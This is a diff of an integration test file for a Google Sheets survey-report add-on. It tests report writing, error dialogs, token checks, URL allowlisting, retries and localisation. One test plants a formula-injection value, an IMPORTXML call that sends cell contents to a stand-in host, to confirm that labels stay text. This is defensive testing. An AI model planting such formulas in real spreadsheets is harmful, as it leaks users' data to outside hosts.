@@ -1,34 +1,38 @@
+/**
+ * Regenerate report, Settings, About and the examples sheet as plain TypeScript over a small
+ * fake Platform, calling the real Worker under `wrangler dev` (its https URL routed to it), with
+ * real RS256 ID tokens checked against a JWKS this test serves.
+ */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { insertExamples } from '../../addon/src/server/examples'
+import { about, onOpen } from '../../addon/src/server/menu'
+import { regenerate } from '../../addon/src/server/regenerate'
+import { sidebarLoad, sidebarSave } from '../../addon/src/server/sidebar'
 import { type LocalWorker, startLocalWorker } from '../../cli/index'
-import { type Cell, displayValue, type TableId, type Value } from '../../engine/index'
-import type { ReportReply as Reply } from '../../protocol/index'
-import { type LoadedAddon, loadAddon } from './apps-script/addon'
+import { type Cell, displayValue, type Report, type TableId, type Value } from '../../engine/index'
+import { METADATA_KEY } from '../../sheets/index'
 import { SyncHttp } from './apps-script/sync-http'
-import { buildForTest } from './support/build'
+import { FakePlatform } from './support/fake-platform'
 import { googleVars, startTestGoogle, type TestGoogle } from './support/google'
 import { sampleValues } from './support/sample'
-import {
-  fingerprint,
-  NAMESAKE,
-  patchSettings,
-  RESPONSES,
-  reportSheets,
-  saveSettings,
-  userSheets,
-} from './support/spreadsheets'
+import { FUNCTION_NAMES } from './support/sheets-functions'
+
+const WORKER = 'https://sapa.test.example'
+const BROKEN = 'https://broken.test.example'
+const ALLOWLIST = [`${WORKER}/`, `${BROKEN}/`]
+const RESPONSES = 'Жауаптар'
+const NAMESAKE = 'Қызметтер рейтингі'
 
 let google: TestGoogle
 let worker: LocalWorker
 let http: SyncHttp
-let dist: string
 let sample: Cell[][]
 let token: string
 
 beforeAll(async () => {
   google = await startTestGoogle()
-  ;[worker, dist, sample, token] = await Promise.all([
+  ;[worker, sample, token] = await Promise.all([
     startLocalWorker({ vars: googleVars(google) }),
-    buildForTest(),
     sampleValues(),
     google.idToken(),
   ])
@@ -39,29 +43,49 @@ afterAll(async () => {
   await Promise.all([worker?.stop(), google?.stop(), http?.stop()])
 })
 
-/** A spreadsheet with the user's sheets and saved settings, the add-on loaded over it. */
-function open(values: Cell[][], tables?: readonly TableId[]): LoadedAddon {
-  const addon = loadAddon({ dist, http, identityToken: token })
-  userSheets(addon, values)
-  saveSettings(addon, worker.url, tables)
-  return addon
+/** A spreadsheet with the user's sheets and settings saved through the sidebar's function. */
+function open(values: Cell[][], options: { tables?: TableId[]; locale?: string } = {}) {
+  const fake = new FakePlatform({
+    http,
+    token,
+    routes: { [WORKER]: worker.url, [BROKEN]: google.url },
+    allowlist: ALLOWLIST,
+    locale: options.locale,
+  })
+  fake.addSheet(RESPONSES, values)
+  fake.addSheet(NAMESAKE, [
+    ['My own ranking', 'Note'],
+    [1, '=do not parse me'],
+  ])
+  fake.addSheet('Notes', [['Sapa', 'is', 'a', 'guest']], [{ key: 'someone.else', value: 'keep' }])
+  const app = fake.app()
+  const state = sidebarLoad(app)
+  const saved = sidebarSave(app, {
+    ...state.settings,
+    tables: options.tables ?? state.settings.tables,
+    workerUrl: `${WORKER}/`,
+  })
+  if (!saved.ok) throw new Error(`settings refused: ${JSON.stringify(saved)}`)
+  fake.resetCalls()
+  return { fake, app }
 }
 
-function regenerate(addon: LoadedAddon): Reply {
-  addon.call('menuRegenerate')
-  expect(addon.ui.dialogs).toEqual([])
-  return JSON.parse(addon.urlFetch.exchanges.at(-1)?.response ?? 'null')
+function run(fake: FakePlatform): Report {
+  regenerate(fake.app())
+  expect(fake.dialogs).toEqual([])
+  return JSON.parse(fake.exchanges.at(-1)?.response ?? 'null')
 }
 
-/** What a table's sheet should show: caption, labels, rows and total, blanks for nulls. */
-function expectedGrid(reply: Reply, table: TableId): Value[][] {
-  const cell = (value: Value | undefined) => (value === null || value === undefined ? '' : value)
-  if (table === 'issues') {
-    const keys = ['row', 'column', 'value', 'reason'] as const
-    return reply.issues.slice(0, 1000).map((issue) => keys.map((k) => cell(issue[k])))
-  }
+const reportSheets = (fake: FakePlatform) =>
+  fake.sheets.filter((s) => s.marks.some((m) => m.key === METADATA_KEY))
+const userSheets = (fake: FakePlatform) =>
+  JSON.stringify(fake.sheets.filter((s) => !s.model).map((s) => [s.name, s.values, s.marks]))
+
+/** What a table's sheet should show: labels, rows and total, blanks for nulls. */
+function expectedGrid(reply: Report, table: TableId): Value[][] {
   const source = reply.tables.find((t) => t.id === table)
   if (!source) throw new Error(`no ${table} table in the reply`)
+  const cell = (value: Value | undefined) => (value === null || value === undefined ? '' : value)
   const rows = [...source.rows, ...(source.total ? [source.total] : [])]
   return [
     source.columns.map((c) => c.label),
@@ -73,308 +97,309 @@ function expectedGrid(reply: Reply, table: TableId): Value[][] {
   ]
 }
 
-function valuesOf(addon: LoadedAddon, table: TableId) {
-  const found = reportSheets(addon).find((s) => s.table === table)
-  if (!found) throw new Error(`no sheet for ${table}`)
-  return found.sheet.grid.map((row) => row.map((cell) => cell.value))
-}
-
 describe('Regenerate report on the 9,517-row sample', () => {
-  let addon: LoadedAddon
-  let first: Reply
-  let userBefore: string[]
+  let fake: FakePlatform
+  let first: Report
+  let before: string
 
   beforeAll(() => {
-    addon = open(sample)
-    userBefore = addon.spreadsheet.sheets
-      .map((s) => JSON.stringify(s.grid.map((r) => r.map((c) => c))))
-      .slice(0, 3)
-    first = regenerate(addon)
+    ;({ fake } = open(sample))
+    before = userSheets(fake)
+    first = run(fake)
   })
 
-  it('reads once, calls the Worker once with an ID token and compact columns, and says so', () => {
-    expect(addon.log.tally()['Range.getValues']).toBe(1)
-    const [exchange] = addon.urlFetch.exchanges
-    expect(addon.urlFetch.exchanges).toHaveLength(1)
-    expect(exchange.url).toBe(`${worker.url}/v1/report`)
+  it('reads once, calls the Worker once with the ID token, compact columns in UTF-8, and says so', () => {
+    expect(fake.count('workbook.values')).toBe(1)
+    expect(fake.exchanges).toHaveLength(1)
+    const [exchange] = fake.exchanges
+    expect(exchange.url).toBe(`${WORKER}/v1/report`)
     expect(exchange.method).toBe('POST')
     expect(exchange.headers.Authorization).toBe(`Bearer ${token}`)
+    expect(exchange.headers['Content-Type']).toBe('application/json; charset=utf-8')
     const body = JSON.parse(exchange.body ?? '{}')
     expect(body.rows).toBeUndefined()
-    expect(body.columns).toHaveLength(21)
     expect(body.columns[0].codes).toHaveLength(9517)
     expect(exchange.status).toBe(200)
-    const sheets = first.plan.requests.filter((r) => r.addSheet).length
-    expect(addon.spreadsheet.toasts).toEqual([
-      'Reading 9,517 responses…',
-      'Scoring…',
-      `Writing ${sheets} sheets…`,
-      expect.stringMatching(/^Done in \d+\.\d s$/),
+    expect(fake.toasts).toEqual([
+      '9,517 жауап есептелуде…',
+      `${reportSheets(fake).length} парақ жазылуда…`,
+      expect.stringMatching(/^\d+\.\d с ішінде дайын$/),
     ])
   })
 
-  it('writes every table exactly as the Worker computed it', () => {
-    const tables = reportSheets(addon).map((s) => s.table)
+  it('codes a date column by time value: one dictionary entry per distinct date, not per row', () => {
+    const [header, ...rows] = sample
+    const body = JSON.parse(fake.exchanges[0].body ?? '{}')
+    const dateColumns = header.flatMap((_, c) => (rows[0][c] instanceof Date ? [c] : []))
+    expect(dateColumns.length).toBeGreaterThan(0)
+    for (const c of dateColumns) {
+      // Counted another way: distinct time values of the grid (blanks are codes -1).
+      const times = new Set(
+        rows.flatMap((row) => (row[c] instanceof Date ? [row[c].getTime()] : [])),
+      )
+      expect(body.columns[c].dict).toHaveLength(times.size)
+      expect(times.size).toBeLessThan(rows.length / 10)
+    }
+  })
+
+  it('writes every table as the Worker computed it, the Issues sheet last', () => {
+    const sheets = reportSheets(fake)
+    const tables = sheets.map((s) => s.model?.table)
     expect(tables).toEqual([
       ...first.tables.map((t) => t.id).filter((id) => id !== 'issues'),
       'issues',
     ])
-    for (const table of tables) {
-      const written = valuesOf(addon, table)
-      const expected = expectedGrid(first, table)
-      if (table === 'issues') {
-        // Caption, header, then the listed issues.
-        expect(written.slice(2).map((row) => row.slice(0, 4))).toEqual(expected)
-        continue
-      }
-      expect(
-        written.map((row) => row.slice(0, expected[0].length)),
-        table,
-      ).toEqual(expected)
+    for (const sheet of sheets) {
+      if (sheet.model?.table === 'issues') continue
+      const expected = expectedGrid(first, sheet.model?.table as TableId)
+      const written = sheet.values.map((row) => row.slice(0, expected[0].length))
+      expect(written.slice(0, expected.length), sheet.model?.table).toEqual(expected)
     }
-  })
-
-  it('formats the sheets as the plan says: frozen header, number formats, notes, grey small bases, scales, charts', () => {
-    const rating = reportSheets(addon).find((s) => s.table === 'rating')?.sheet
-    if (!rating) throw new Error('no rating sheet')
-    expect(rating.frozenRows).toBe(1)
-    const table = first.tables.find((t) => t.id === 'rating')
-    const satisfaction = table?.columns.findIndex((c) => c.key === 'satisfaction') ?? -1
-    expect(rating.grid[1][satisfaction].format).toBe('0.0%')
-    expect(rating.grid[1][1].format).toBe('@')
-    expect(rating.grid[0][0].weight).toBe('bold')
-    const small = table?.rows.findIndex((r) => r.smallBase === true) ?? -1
-    expect(small).toBeGreaterThan(0)
-    expect(rating.grid[small + 1][1].color).toBe('#999999')
-    expect(rating.grid[small + 1][0].note).toMatch(/Іріктеме аз/)
-    expect(rating.charts).toHaveLength(1)
-    const aspects = reportSheets(addon).find((s) => s.table === 'aspects')?.sheet
-    const aspectRows = first.tables.find((t) => t.id === 'aspects')?.rows.length
-    expect(aspects?.rules).toHaveLength(aspectRows ?? -1)
-    const charts = reportSheets(addon).reduce((n, s) => n + s.sheet.charts.length, 0)
-    expect(charts).toBe(first.plan.requests.filter((r) => r.addChart).length)
-  })
-
-  it('never names its sheet over a user’s sheet of the same name', () => {
-    const rating = reportSheets(addon).find((s) => s.table === 'rating')?.sheet
-    expect(rating?.name).toBe(`${NAMESAKE} (2)`)
-    expect(addon.spreadsheet.fakeSheetNamed(NAMESAKE)?.metadata).toEqual([])
+    expect(sheets[0].name).toBe(`${NAMESAKE} (2)`)
+    expect(fake.active).toBe(sheets[0].id)
   })
 
   it('a second run replaces the first: nothing accumulates, user sheets are as they were', () => {
-    const firstIds = reportSheets(addon).map((s) => s.sheet.id)
-    const count = addon.spreadsheet.sheets.length
-    const second = regenerate(addon)
-    const now = reportSheets(addon)
-    expect(addon.spreadsheet.sheets).toHaveLength(count)
-    expect(now.map((s) => s.sheet.id).some((id) => firstIds.includes(id))).toBe(false)
-    expect(
-      addon.spreadsheet.sheets.map((s) => s.name).filter((n) => n.startsWith('Sapa ')),
-    ).toEqual([])
+    const firstIds = reportSheets(fake).map((s) => s.id)
+    const count = fake.sheets.length
+    const second = run(fake)
+    expect(fake.sheets).toHaveLength(count)
+    expect(reportSheets(fake).some((s) => firstIds.includes(s.id))).toBe(false)
+    expect(fake.sheets.filter((s) => s.name.startsWith('Sapa '))).toEqual([])
     expect(second.tables).toEqual(first.tables)
-    const userAfter = addon.spreadsheet.sheets
-      .slice(0, 3)
-      .map((s) => JSON.stringify(s.grid.map((r) => r.map((c) => c))))
-    expect(userAfter).toEqual(userBefore)
-    expect(addon.spreadsheet.sheets.slice(0, 3).map((s) => s.name)).toEqual([
-      RESPONSES,
-      NAMESAKE,
-      'Notes',
-    ])
-    expect(addon.spreadsheet.sheets[2].metadata.map((m) => m.key)).toEqual(['someone.else'])
-    expect(addon.lock.lock.held).toBe(false)
+    expect(userSheets(fake)).toEqual(before)
+    expect(fake.lockHeld).toBe(false)
   })
 })
 
-/** Classes whose calls touch the document (builders and UI are counted apart). */
-const DOCUMENT = [
-  'Spreadsheet',
-  'Sheet',
-  'Range',
-  'RangeList',
-  'DeveloperMetadataFinder',
-  'DeveloperMetadata',
-  'DeveloperMetadataLocation',
-]
-
-/** The calls of a second run (a previous report exists), per "Class.method". */
-function secondRunCalls(values: Cell[][], tables?: readonly TableId[]) {
-  const addon = open(values, tables)
-  regenerate(addon)
-  addon.log.reset()
-  const reply = regenerate(addon)
-  return { tally: addon.log.tally(DOCUMENT), all: addon.log.tally(), reply }
-}
-
-/**
- * The documented bound (docs/addon.md): at most 13 fixed calls, 4 per sheet of the previous
- * report, 1 per title already taken by a user's sheet, and per new sheet 21 + one per column
- * + 2 per chart. It counts sheets, columns and charts of the plan, never respondents.
- */
-function callBound(reply: Reply, previousSheets: number, takenTitles: number): number {
-  const requests = reply.plan.requests
-  const sheets = requests.filter((r) => r.addSheet)
-  const columns = sheets.reduce(
-    (sum, r) => sum + (r.addSheet?.properties?.gridProperties?.columnCount ?? 0),
-    0,
-  )
-  const charts = requests.filter((r) => r.addChart).length
-  return 13 + 4 * previousSheets + takenTitles + 21 * sheets.length + columns + 2 * charts
-}
-
-describe('The number of calls', () => {
-  it('is the same for a third of the sample as for all of it', () => {
-    const third = [sample[0], ...sample.slice(1).filter((_, i) => i % 3 === 0)]
-    const small = secondRunCalls(third)
-    const full = secondRunCalls(sample)
-    expect(small.tally).toEqual(full.tally)
-    expect(full.tally['Range.getValues']).toBe(1)
-    expect(full.all['UrlFetchApp.fetch']).toBe(1)
-    const sheets = full.reply.plan.requests.filter((r) => r.addSheet).length
-    const total = Object.values(full.tally).reduce((a, b) => a + b, 0)
-    expect(total).toBeLessThanOrEqual(callBound(full.reply, sheets, 1))
-  })
-
-  it('stays within the documented bound for a subset of the tables as for all of them', () => {
-    const subset = secondRunCalls(sample, ['regions', 'drivers'])
-    const sheets = subset.reply.plan.requests.filter((r) => r.addSheet).length
-    expect(sheets).toBe(3)
-    const total = Object.values(subset.tally).reduce((a, b) => a + b, 0)
-    expect(total).toBeLessThanOrEqual(callBound(subset.reply, sheets, 0))
-  })
-})
-
-describe('A failure at any point leaves the previous report exactly as it was', () => {
-  let addon: LoadedAddon
-  let settings: string
+describe('A failure leaves the previous report as it was, and says why', () => {
+  let fake: FakePlatform
 
   beforeAll(() => {
-    addon = open(sample.slice(0, 3001))
-    regenerate(addon)
-    settings = addon.properties.document.getProperty('sapa.settings') ?? ''
+    ;({ fake } = open(sample.slice(0, 3001)))
+    run(fake)
   })
 
-  function expectUntouched(run: () => void, dialog: { title: RegExp; message: RegExp }) {
-    const before = fingerprint(addon)
-    addon.ui.dialogs.length = 0
-    run()
-    expect(addon.ui.dialogs).toEqual([
+  const settings = () => JSON.parse(fake.store.get('sapa.settings') ?? '{}')
+  function patch(values: Record<string, unknown>) {
+    fake.store.set('sapa.settings', JSON.stringify({ ...settings(), ...values }))
+  }
+
+  function expectUntouched(dialog: { title: RegExp; message: RegExp }) {
+    const before = JSON.stringify(fake.sheets)
+    fake.dialogs.length = 0
+    regenerate(fake.app())
+    expect(fake.dialogs).toEqual([
       {
         title: expect.stringMatching(dialog.title),
         message: expect.stringMatching(dialog.message),
       },
     ])
-    expect(fingerprint(addon)).toEqual(before)
-    expect(addon.lock.lock.held).toBe(false)
+    expect(JSON.stringify(fake.sheets)).toEqual(before)
+    expect(fake.lockHeld).toBe(false)
   }
 
-  it('Worker 500', () => {
-    patchSettings(addon, { workerUrl: `${google.url}/fail-500` })
-    expectUntouched(() => addon.call('menuRegenerate'), {
-      title: /HTTP 500/,
-      message: /Internal error \(request req-test-500\)/,
-    })
+  it('Worker 500: its message and request id', () => {
+    patch({ workerUrl: `${BROKEN}/fail-500` })
+    expectUntouched({ title: /HTTP 500/, message: /Internal error \(request req-test-500\)/ })
   })
 
   it('Worker timeout', () => {
-    patchSettings(addon, { workerUrl: `${google.url}/slow` })
-    addon.urlFetch.timeoutMs = 300
+    patch({ workerUrl: `${BROKEN}/slow` })
+    fake.timeoutMs = 300
     try {
-      expectUntouched(() => addon.call('menuRegenerate'), {
-        title: /did not answer/,
-        message: /Timeout/,
-      })
+      expectUntouched({ title: /жауап бермеді/, message: /Timeout/ })
     } finally {
-      addon.urlFetch.timeoutMs = 60_000
-    }
-  })
-
-  it('401: a token the Worker does not trust', async () => {
-    patchSettings(addon, { workerUrl: worker.url })
-    addon.script.identityToken = await google.idToken({}, { foreignKey: true })
-    try {
-      expectUntouched(() => addon.call('menuRegenerate'), {
-        title: /refused your account/,
-        message: /token signature invalid.*ALLOWED_EMAILS/,
-      })
-    } finally {
-      addon.script.identityToken = token
+      fake.timeoutMs = 60_000
     }
   })
 
   it('malformed JSON', () => {
-    patchSettings(addon, { workerUrl: `${google.url}/garbled` })
-    expectUntouched(() => addon.call('menuRegenerate'), {
-      title: /broken answer/,
-      message: /not valid JSON/,
-    })
+    patch({ workerUrl: `${BROKEN}/garbled` })
+    expectUntouched({ title: /бүлінген жауап/, message: /жарамды JSON емес/ })
+  })
+
+  it('401: a token the Worker does not trust, with what to ask the administrator', async () => {
+    patch({ workerUrl: WORKER })
+    fake.token = await google.idToken({}, { foreignKey: true })
+    try {
+      expectUntouched({ title: /қабылдамады/, message: /token signature invalid.*ALLOWED_EMAILS/ })
+    } finally {
+      fake.token = token
+    }
+  })
+
+  it('no identity token: nothing is sent (never "Bearer null")', () => {
+    fake.token = null
+    const sent = fake.exchanges.length
+    try {
+      expectUntouched({ title: /Google кіру токені жоқ/, message: /openid/ })
+      expect(fake.exchanges).toHaveLength(sent)
+    } finally {
+      fake.token = token
+    }
   })
 
   it('a missing column: the Worker’s message names it', () => {
-    patchSettings(addon, {
-      workerUrl: worker.url,
-      mapping: { service: 'Қызмет коды', overall: 'Баға 2017' },
-    })
-    expectUntouched(() => addon.call('menuRegenerate'), {
-      title: /cannot read the responses/,
-      message: /"Баға 2017"/,
-    })
+    patch({ workerUrl: WORKER, mapping: { service: 'Қызмет коды', overall: 'Баға 2017' } })
+    expectUntouched({ title: /жауаптарды оқи алмайды/, message: /"Баға 2017"/ })
   })
 
-  it('an exception while writing the third sheet', () => {
-    addon.properties.document.setProperty('sapa.settings', settings)
-    addon.log.reset()
-    addon.log.failOn({ call: 'Range.setValues', nth: 3, message: 'Service Spreadsheets failed' })
-    expectUntouched(() => addon.call('menuRegenerate'), {
-      title: /could not be written/,
-      message: /Service Spreadsheets failed\. The previous report is as it was/,
-    })
-    addon.log.reset()
+  it('a saved URL the build does not allow, or this computer’s: refused before any call', () => {
+    const sent = fake.exchanges.length
+    patch({ workerUrl: 'https://elsewhere.example.com', mapping: settings().mapping })
+    expectUntouched({ title: /пайдалану мүмкін емес/, message: /urlFetchWhitelist/ })
+    patch({ workerUrl: 'http://127.0.0.1:8787' })
+    expectUntouched({ title: /пайдалану мүмкін емес/, message: /https:\/\// })
+    expect(fake.exchanges).toHaveLength(sent)
   })
 
-  it('another run in progress: the lock is not taken, nothing is read', () => {
-    addon.lock.lock.busy = true
+  it('another run holds the lock: nothing is read', () => {
+    patch({ workerUrl: WORKER })
+    fake.lockBusy = true
+    fake.resetCalls()
     try {
-      const fetches = addon.urlFetch.exchanges.length
-      expectUntouched(() => addon.call('menuRegenerate'), { title: /busy/, message: /already/ })
-      expect(addon.urlFetch.exchanges).toHaveLength(fetches)
+      expectUntouched({ title: /бос емес/, message: /қазір құрылып жатыр/ })
+      expect(fake.count('workbook.values')).toBe(0)
     } finally {
-      addon.lock.lock.busy = false
+      fake.lockBusy = false
     }
   })
 })
 
-describe('About and Insert formula examples', () => {
-  it('About shows the add-on’s engine and the Worker’s, asking the Worker once a minute', () => {
-    const addon = open(sample.slice(0, 100))
-    addon.call('menuAbout')
-    addon.call('menuAbout')
-    expect(addon.ui.dialogs).toHaveLength(2)
-    expect(addon.ui.dialogs[0]).toEqual({
-      title: 'About Sapa',
-      message: `Add-on engine 0.1.0\nWorker ${worker.url}: engine 0.1.0`,
-    })
-    expect(addon.urlFetch.exchanges.map((e) => e.url)).toEqual([`${worker.url}/v1/health`])
+describe('A proxy’s 502/503/504 is sent again, 3 attempts in all', () => {
+  it('two 503s then the Worker: the report is written, after waits of 100 and 200 ms', () => {
+    const { fake } = open(sample.slice(0, 500))
+    fake.proxyAnswers.push({ path: '/v1/report', status: 503 }, { path: '/v1/report', status: 502 })
+    regenerate(fake.app())
+    expect(fake.dialogs).toEqual([])
+    expect(fake.exchanges.map((e) => e.status)).toEqual([503, 502, 200])
+    expect(fake.sleeps).toEqual([100, 200])
+    expect(reportSheets(fake).length).toBeGreaterThan(0)
   })
 
-  it('adds one sheet of worked formulas over the mapped columns, replacing it when asked again', () => {
-    const addon = open(sample.slice(0, 300))
-    addon.call('menuExamples')
-    addon.call('menuExamples')
-    const examples = addon.spreadsheet.sheets.filter((s) =>
-      s.metadata.some((m) => m.key === 'sapa.examples'),
-    )
+  it('three 504s: the third is the answer, and nothing is changed', () => {
+    const { fake } = open(sample.slice(0, 500))
+    for (let i = 0; i < 4; i++) fake.proxyAnswers.push({ path: '/v1/report', status: 504 })
+    regenerate(fake.app())
+    expect(fake.exchanges).toHaveLength(3)
+    expect(fake.dialogs).toEqual([
+      { title: 'Sapa Worker қатесі (HTTP 504)', message: 'HTTP 504 Ештеңе өзгерген жоқ.' },
+    ])
+    expect(reportSheets(fake)).toEqual([])
+  })
+})
+
+describe('The add-on speaks the spreadsheet’s language, or the report language saved', () => {
+  it('menu, toasts and dialogs in Russian for a ru_RU spreadsheet', () => {
+    const fake = new FakePlatform({ http, token, locale: 'ru_RU' })
+    fake.addSheet(RESPONSES, sample.slice(0, 10))
+    onOpen(fake.app(), { authMode: 'LIMITED' })
+    expect(fake.menus[0]).toEqual([
+      ['Пересоздать отчёт', 'menuRegenerate'],
+      ['Настройки', 'menuSettings'],
+      ['Вставить примеры формул', 'menuExamples'],
+      null,
+      ['О Sapa', 'menuAbout'],
+    ])
+    regenerate(fake.app())
+    expect(fake.dialogs).toEqual([
+      {
+        title: 'Sapa не настроена',
+        message: 'Откройте Sapa › Настройки, проверьте столбцы и введите адрес Worker.',
+      },
+    ])
+  })
+
+  it('the report language saved in Settings wins; AuthMode.NONE uses the user’s locale only', () => {
+    const { fake } = open(sample.slice(0, 10), { locale: 'ru_RU' })
+    patchLocale(fake, 'en')
+    onOpen(fake.app(), { authMode: 'LIMITED' })
+    expect(fake.menus[0]?.[0]).toEqual(['Regenerate report', 'menuRegenerate'])
+    fake.userLocale = 'kk'
+    fake.resetCalls()
+    onOpen(fake.app(), { authMode: 'NONE' })
+    expect(fake.menus[1]?.[0]).toEqual(['Есепті қайта құру', 'menuRegenerate'])
+    expect(fake.calls).toEqual(['userLocale', 'ui.addonMenu'])
+  })
+})
+
+function patchLocale(fake: FakePlatform, locale: string) {
+  const saved = JSON.parse(fake.store.get('sapa.settings') ?? '{}')
+  fake.store.set('sapa.settings', JSON.stringify({ ...saved, locale }))
+}
+
+describe('About and Insert formula examples', () => {
+  it('About shows the add-on’s engine and the Worker’s, asking the Worker once a minute', () => {
+    const { fake } = open(sample.slice(0, 100))
+    about(fake.app())
+    about(fake.app())
+    expect(fake.dialogs).toEqual([
+      {
+        title: 'Sapa туралы',
+        message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0`,
+      },
+      {
+        title: 'Sapa туралы',
+        message: `Қондырманың қозғалтқышы 0.1.0\nWorker ${WORKER}: қозғалтқыш 0.1.0`,
+      },
+    ])
+    expect(fake.exchanges.map((e) => e.url)).toEqual([`${WORKER}/v1/health`])
+  })
+
+  it('one sheet of worked formulas, replaced when asked again; every function is the add-on’s or a built-in', () => {
+    const { fake } = open(sample.slice(0, 300))
+    insertExamples(fake.app())
+    insertExamples(fake.app())
+    const examples = fake.sheets.filter((s) => s.marks.some((m) => m.key === 'sapa.examples'))
     expect(examples).toHaveLength(1)
     const [sheet] = examples
-    expect(sheet.name).toBe('Sapa formulas')
-    const formulas = sheet.grid.map((row) => row[2].formula).filter(Boolean)
+    expect(sheet.name).toBe('Sapa формулалары')
+    expect(sheet.examples?.heading).toBe(`«${RESPONSES}» бойынша Sapa формулалары`)
+    const formulas = sheet.examples?.rows.map((r) => r.formula).filter(Boolean) ?? []
     expect(formulas).toContain(`=SATISFACTION('${RESPONSES}'!J2:J)`)
+    expect(formulas).toContain(`=RESPONDENTS('${RESPONSES}'!J2:J)`)
     expect(formulas).toContain(
       `=MEAN_SCORE(FILTER('${RESPONSES}'!J2:J, '${RESPONSES}'!G2:G="Мемлекеттік корпорация (ХҚКО)"))`,
     )
-    expect(formulas.some((f) => f.startsWith('=KEY_DRIVERS({'))).toBe(true)
-    expect(formulas.at(-1)).toBe(`=RATING('${RESPONSES}'!D2:D, '${RESPONSES}'!J2:J, 30)`)
-    expect(sheet.grid[2][1].formula).toBe('=FORMULATEXT(C3)')
-    expect(addon.ui.dialogs).toEqual([])
+    expect(formulas.some((f) => /^=KEY_DRIVERS\(\{.*\}, .*, "kk"\)$/.test(f))).toBe(true)
+    expect(formulas.at(-1)).toBe(`=RATING('${RESPONSES}'!D2:D, '${RESPONSES}'!J2:J, 30, "kk")`)
+    const ours = new Set([
+      'SATISFACTION',
+      'TOP2BOX',
+      'MEAN_SCORE',
+      'SCORE10',
+      'RESPONDENTS',
+      'DISTRIBUTION',
+      'SATISFACTION_CI',
+      'SOCIAL_CONCERN',
+      'KEY_DRIVERS',
+      'RATING',
+    ])
+    for (const formula of formulas) {
+      // Every NAME( outside quoted text: the add-on's, or a Sheets built-in (FILTER).
+      const code = formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, '')
+      for (const [, name] of code.matchAll(/([A-Z][A-Z0-9_.]*)\(/g)) {
+        expect(ours.has(name) || FUNCTION_NAMES.has(name), `${name} in ${formula}`).toBe(true)
+      }
+    }
+    expect(fake.dialogs).toEqual([])
+  })
+
+  it('labels that start like a formula are passed on as they are (the writer keeps them text)', () => {
+    const values = sample.slice(0, 300).map((row) => [...row])
+    const channel = values[0].indexOf('Қызмет алынған орын')
+    expect(channel).toBeGreaterThan(0)
+    for (let r = 1; r < values.length; r++)
+      values[r][channel] = '=IMPORTXML("https://x.example/?"&A1, "//a")'
+    const { fake } = open(values)
+    insertExamples(fake.app())
+    const rows = fake.sheets.find((s) => s.examples)?.examples?.rows ?? []
+    expect(rows.map((r) => r.label)).toContain(
+      'Қанағаттанушылық: =IMPORTXML("https://x.example/?"&A1, "//a")',
+    )
+    expect(rows.map((r) => r.formula)).toContain(
+      `=SATISFACTION(FILTER('${RESPONSES}'!J2:J, '${RESPONSES}'!G2:G="=IMPORTXML(""https://x.example/?""&A1, ""//a"")"))`,
+    )
   })
 })
